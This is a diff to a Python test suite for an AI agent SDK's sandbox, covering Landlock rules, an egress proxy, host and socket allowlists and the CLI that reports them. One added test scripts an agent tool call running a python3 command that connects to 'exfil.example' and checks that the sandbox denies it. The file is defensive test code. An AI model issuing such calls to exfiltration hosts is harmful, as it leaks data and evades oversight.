@@ -20,7 +20,7 @@ from antigravity_sdk.cli.chat import run_chat
 from antigravity_sdk.containment import landlock_abi, plan
 from antigravity_sdk.harness.connection import LocalConnection
 from antigravity_sdk.harness.install import find_harness
-from antigravity_sdk.testing import ScriptedModel
+from antigravity_sdk.testing import ScriptedModel, tool_call
 
 from .conftest import AgentFactory, Workspace
 from .test_tracing import Traced, attrs
@@ -75,7 +75,6 @@ async def test_a_rule_the_kernel_refuses_is_a_containment_error(tmp_path: Path) 
         workspaces=[tmp_path],
         state=[],
         tmp_dir=tmp_path,
-        ports=(),
         abi=landlock_abi(),
     )
     broken = dataclasses.replace(contained, connect=(1 << 20,))  # no such port: EINVAL
@@ -91,9 +90,10 @@ def test_doctor_prints_the_containment_and_starts_contained(
     assert cli.main(["doctor"]) == 0
     out = capsys.readouterr().out
     assert f"[ OK ] containment: Landlock ABI {landlock_abi()}: filesystem" in out
-    assert "writable: " in out and "connect: TCP ports 443" in out
+    assert "writable: " in out
+    assert "network: only through the SDK's egress proxy, to no host" in out
     assert "[ OK ] harness starts contained," in out
-    assert "       its own: terminals, System V IPC; seccomp filter: True" in out
+    assert "its own: terminals, System V IPC, network, processes, hostname, /dev/shm" in out
 
 
 @pytest.mark.parametrize("flags", [[], ["--no-containment"]], ids=["default", "off"])
@@ -126,13 +126,13 @@ async def test_chat_shows_the_containment_and_takes_additions(
             model=model.model_name,
             out=out,
             err=err,
-            containment=Containment(connect=[5432]),
+            containment=Containment(connect=[5432], hosts=["pypi.org"]),
         )
     assert code == 0, out.getvalue() + err.getvalue()
     text = out.getvalue()
     assert "containment: Landlock ABI" in text
-    port = model.base_url.rsplit(":", 1)[1].split("/")[0]
-    assert f"connect: TCP ports {', '.join(sorted([port, '5432'], key=int))}" in text
+    assert "forwarded to this machine's loopback: ports 5432" in text
+    assert "egress proxy, to pypi.org" in text
 
 
 def test_the_cli_flags_build_the_containment() -> None:
@@ -149,12 +149,46 @@ def test_the_cli_flags_build_the_containment() -> None:
             "/scratch",
             "--allow-connect",
             "5432",
+            "--allow-host",
+            "*.github.com",
+            "--allow-socket",
+            "/run/db.sock",
         ]
     )
     spec = containment_from(args)
     assert spec is not None
     assert spec.read == (Path("/data"),) and spec.write == (Path("/scratch"),)
     assert spec.connect == (5432,)
+    assert spec.hosts == ("*.github.com",) and spec.sockets == (Path("/run/db.sock"),)
     assert containment_from(build_parser().parse_args(["chat", "x", "--no-containment"])) is None
     with pytest.raises(SystemExit):
         build_parser().parse_args(["chat", "x", "--allow-connect", "99999"])
+
+
+async def test_chat_shows_a_refused_connection_as_a_row(
+    env: Workspace, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(env.ws)
+    monkeypatch.setenv("COLUMNS", "200")  # one line a row
+    policies = env.root / "policies.toml"
+    policies.write_text('[[rule]]\ntool = "*"\ndecision = "allow"\n')
+    fetch = (
+        "python3 -c \"import urllib.request as u; u.urlopen('https://exfil.example', timeout=5)\""
+    )
+    call = tool_call("run_command", CommandLine=fetch, Cwd=str(env.ws), WaitMsBeforeAsync=10000)
+    async with ScriptedModel([call, "done"]) as model:
+        out, err = io.StringIO(), io.StringIO()
+        code = await run_chat(
+            "fetch it",
+            base_url=model.base_url,
+            model=model.model_name,
+            out=out,
+            err=err,
+            policies_file=str(policies),
+        )
+    text = out.getvalue()
+    assert code in (0, 1), text + err.getvalue()
+    row = next(line for line in text.splitlines() if '"exfil.example"' in line)
+    assert " network " in row and "DENY" in row and "egress" in row, text
+    assert "no host pattern allows it" in text
+    assert "exfil.example" not in err.getvalue()  # a row, not also a warning line
